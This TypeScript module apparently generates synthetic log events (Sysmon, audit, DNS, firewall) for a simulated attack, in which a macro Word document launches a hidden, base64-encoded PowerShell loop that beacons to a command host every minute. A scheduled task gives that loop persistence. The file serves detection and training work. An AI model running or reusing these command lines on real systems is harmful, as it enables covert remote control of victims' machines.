import type { Draft } from '../event.ts';
import { processAudited } from '../eventlog.ts';
import { firewallLine, resolverLine } from '../network.ts';
import { connected, nameQueried, processCreated } from '../sysmon.ts';
import { type Cast, recorder } from './cast.ts';

const system32 = 'C:\\Windows\\System32';
const powershell = `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';

/** PowerShell's `-EncodedCommand`: base64 of UTF-16LE. */
export const encodedCommand = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

/** A letter starts PowerShell, which stays by a scheduled task and calls home every 60 s, give or take 6. */
export function beacon({ random, home, victim }: Cast, from: number, end: number): Draft[] {
  const draft = recorder('beacon');
  const script = `while ($true) { Invoke-RestMethod https://${home.name}/tide; Start-Sleep -Seconds 60 }`;
  const base = { host: victim, user: victim.user };
  const started = {
    ...base,
    image: powershell,
    commandLine: `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${encodedCommand(script)}`,
    parent: word,
    parentCommandLine: `"${word}" /n "C:\\Users\\${victim.user}\\Downloads\\mooring-invoice.docm"`,
  };
  const task = {
    ...base,
    image: `${system32}\\schtasks.exe`,
    commandLine: `schtasks.exe /create /f /sc onlogon /tn TideSync /tr "powershell.exe -WindowStyle Hidden -File C:\\Users\\Public\\tide.ps1"`,
    parent: powershell,
  };
  const drafts = [
    draft(from, processCreated(random, from, started)),
    draft(from + 3, processAudited(random, started)),
    draft(from + 6_000, processCreated(random, from + 6_000, task)),
  ];
  for (let at = from + 2_000; at < end; at += 60_000 + random.int(-6_000, 6_000)) {
    const packet = {
      verdict: 'ACCEPT',
      from: 'lan0',
      to: 'wan0',
      source: victim.address,
      destination: home.address,
      port: home.port,
    } as const;
    drafts.push(
      draft(at, nameQueried(random, at, started, home.name, home.address)),
      resolverLine(at + 2, 'beacon', victim.address, home.name),
      draft(at + 40, connected(random, at + 40, started, home)),
      firewallLine(random, at + 42, 'beacon', packet),
    );
  }
  return drafts;
}
